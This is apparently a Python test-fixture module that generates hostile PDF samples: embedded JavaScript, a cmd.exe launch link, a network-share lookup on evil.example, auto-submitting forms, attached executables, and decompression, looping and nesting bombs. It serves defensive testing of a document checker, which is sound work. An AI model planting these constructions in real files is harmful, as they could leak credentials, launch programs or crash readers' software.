"""Hostile PDF documents: what they run, where they lead, and how they loop and swell."""

import zlib
from collections.abc import Mapping

from tests.unit.evidence.harm import Harm, fixed
from tests.unit.evidence.hostile import numbered, pdf

_SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] "


def page(more: bytes, *others: bytes, catalogue: bytes = b"") -> bytes:
    """Return a document whose page has entries of our own, with more objects from number 4."""
    return numbered(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _PAGE + more + b" >>",
            *others,
        ]
    )


def stream(data: bytes, more: bytes = b"") -> bytes:
    """Return a stream."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def packed_often(times: int) -> bytes:
    """Return a document whose page is drawn by nothing, packed many times over."""
    data = bytes(50_000_000)
    for _ in range(times):
        data = zlib.compress(data, 9)
    names = b"/FlateDecode " * times
    return page(b"/Contents 4 0 R", stream(data, b"/Filter [ %s ]" % names))


def looping_pages() -> bytes:
    """Return a document whose page tree leads back to its own root."""
    return numbered(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2000000000 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>",
        ]
    )


def swollen_object_stream() -> bytes:
    """Return a document with an object stream that says it holds a billion objects."""
    inner = b" ".join(b"%d %d" % (number, number) for number in range(10, 2_000))
    head = b"/Type /ObjStm /N 1000000000 /First %d /Filter /FlateDecode" % len(inner)
    return page(b"", stream(zlib.compress(inner + bytes(20_000_000)), head))


def looping_tables() -> bytes:
    """Return a document whose table of objects names itself as the one before it."""
    data = pdf("")
    start = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def huge_picture(kind: bytes) -> bytes:
    """Return a document with a picture of a million rows and columns in a few bytes."""
    head = (
        b"/Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /BitsPerComponent 8 "
        b"/ColorSpace /DeviceRGB /Filter /" + kind
    )
    return page(
        b"/Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >>",
        stream(b"q 100 0 0 100 0 0 cm /I Do Q"),
        stream(b"\x97JB2\r\n\x1a\n" + bytes(200), head),
    )


def protected() -> bytes:
    """Return a document that opens with a password only."""
    data = pdf("")
    secret = b"<" + b"41" * 32 + b">"
    lock = (
        b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O "
        + secret
        + b" /U "
        + secret
        + b" >> /ID [<41> <41>] /Root 1 0 R"
    )
    return data.replace(b"/Root 1 0 R", lock)


PRINTED: Mapping[str, Harm] = {
    "script-in-names.pdf": fixed(
        lambda: pdf(f"/Names << /JavaScript << /Names [(a) {_SCRIPT}] >> >>"), "script"
    ),
    "script-in-a-link.pdf": fixed(
        lambda: page(b"/Annots [<< /Subtype /Link /A " + _SCRIPT.encode() + b" >>]"), "script"
    ),
    "script-in-a-field.pdf": fixed(
        lambda: pdf(f"/AcroForm << /Fields [<< /FT /Tx /AA << /K {_SCRIPT} >> >>] >>"), "script"
    ),
    "script-in-the-outline.pdf": fixed(
        lambda: pdf(f"/Outlines << /First << /Title (a) /A {_SCRIPT} >> >>"), "script"
    ),
    "script-after-a-link.pdf": fixed(
        lambda: pdf(f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next {_SCRIPT} >>"), "script"
    ),
    "program-in-a-link.pdf": fixed(
        lambda: page(b"/Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]"),
        "program to launch",
    ),
    "network-share.pdf": fixed(
        lambda: pdf("/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a) /D [0 /Fit] >>"),
        "by itself",
    ),
    "page-that-calls.pdf": Harm(
        lambda address: page(b"/AA << /O << /S /URI /URI (" + address.encode() + b") >> >>"),
        "by itself",
    ),
    "sends-its-form.pdf": Harm(
        lambda address: pdf(f"/OpenAction << /S /SubmitForm /F ({address}) >>"), "by itself"
    ),
    "link-to-press.pdf": Harm(
        lambda address: page(
            b"/Annots [<< /Subtype /Link /A << /S /URI /URI (" + address.encode() + b") >> >>]"
        )
    ),
    "programmed-form.pdf": fixed(lambda: pdf("/AcroForm << /XFA (x) /Fields [] >>"), "XFA"),
    "attached-to-a-page.pdf": fixed(
        lambda: page(b"/Annots [<< /Subtype /FileAttachment /FS << /F (a.exe) >> >>]"),
        "attached file",
    ),
    "film.pdf": fixed(lambda: page(b"/Annots [<< /Subtype /RichMedia >>]"), "film"),
    "stream-from-elsewhere.pdf": Harm(
        lambda address: page(
            b"/Contents 4 0 R",
            stream(b"q Q", b"/F << /FS /URL /F (" + address.encode() + b") >>"),
        )
    ),
    "looping-pages.pdf": fixed(looping_pages),
    "looping-tables.pdf": fixed(looping_tables),
    "object-stream-bomb.pdf": fixed(swollen_object_stream),
    "packed-three-times.pdf": fixed(lambda: packed_often(3)),
    "deep-lists.pdf": fixed(lambda: pdf("/A " + "[" * 100_000 + "]" * 100_000)),
    "deep-entries.pdf": fixed(lambda: pdf("/A " + "<< /A " * 50_000 + ">>" * 50_000)),
    "huge-picture.pdf": fixed(lambda: huge_picture(b"JBIG2Decode")),
    "huge-fax.pdf": fixed(lambda: huge_picture(b"CCITTFaxDecode")),
    "password.pdf": fixed(protected, "password"),
    "many-objects.pdf": fixed(
        lambda: page(
            b"",
            *[b"<< /A [ %d 0 R ] >>" % (number + 5) for number in range(60_000)],
            catalogue=b"/A 4 0 R",
        ),
    ),
    "tiff-renamed.pdf": fixed(lambda: b"II*\0" + bytes(400), "picture"),
    "png-renamed.pdf": fixed(lambda: b"\x89PNG\r\n\x1a\n" + bytes(400), "picture"),
    "only-a-header.pdf": fixed(lambda: b"%PDF-1.7\n", "damaged"),
}
"""By the name under which each is handed in."""
